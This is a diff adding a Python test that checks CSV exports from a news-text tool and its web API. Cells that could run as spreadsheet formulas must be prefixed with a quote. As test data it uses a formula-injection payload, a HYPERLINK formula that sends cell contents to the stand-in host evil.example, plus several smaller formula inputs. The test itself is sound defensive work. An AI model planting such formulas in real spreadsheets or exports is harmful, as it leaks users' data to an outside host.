@@ -90,3 +90,34 @@ def test_printable_escapes_what_would_break_a_line_or_utf8():
     assert printable("a\nb\tc\x1bd\x7f") == "a\\nb\\tc\\x1bd\\x7f"
     assert printable(os.fsdecode(b"b\xff\xfe.txt")) == "b\\xff\\xfe.txt"
     assert printable("x\ud800\u2028") == "x\\ud800\\u2028"
+
+
+def test_csv_cells_that_would_be_formulas_start_with_a_quote(tmp_path):
+    import csv
+    import io
+
+    from fastapi.testclient import TestClient
+
+    from khabar.export.csv_files import _cell
+    from khabar.safetext import spreadsheet_cell
+    from khabar.web import create_app
+
+    title = '=HYPERLINK("http://evil.example/?"&A1,"خبر")'
+    record = {"text": GOOD, "title": title, "url": "@SUM(1+1)", "source": "-2+3"}
+    (tmp_path / "a.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
+    db = tmp_path / "k.db"
+    assert runner.invoke(app, ["ingest", str(tmp_path / "a.jsonl"), "--db", str(db)]).exit_code == 0
+    out = tmp_path / "csv"
+    assert runner.invoke(app, ["export", "--format", "csv", "--db", str(db), "--out", str(out)])
+    with (out / "documents.csv").open(encoding="utf-8-sig", newline="") as f:
+        (row,) = csv.DictReader(f)
+    assert (row["title"], row["url"]) == ("'" + title, "'@SUM(1+1)")
+
+    api = TestClient(create_app(db)).get("/api/v1/documents?format=csv")
+    (item,) = csv.DictReader(io.StringIO(api.text.removeprefix("\ufeff")))
+    assert (item["title"], item["url"]) == ("'" + title, "'@SUM(1+1)")
+
+    for cell in ("\tx", "\rx", "+98", "-", "＝1+1"):
+        assert spreadsheet_cell(cell) == "'" + cell
+    assert spreadsheet_cell("وزیر = رئیس") == "وزیر = رئیس"
+    assert (_cell(-2.5), _cell(-3.0), spreadsheet_cell(-7)) == (-2.5, -3, -7)  # numbers
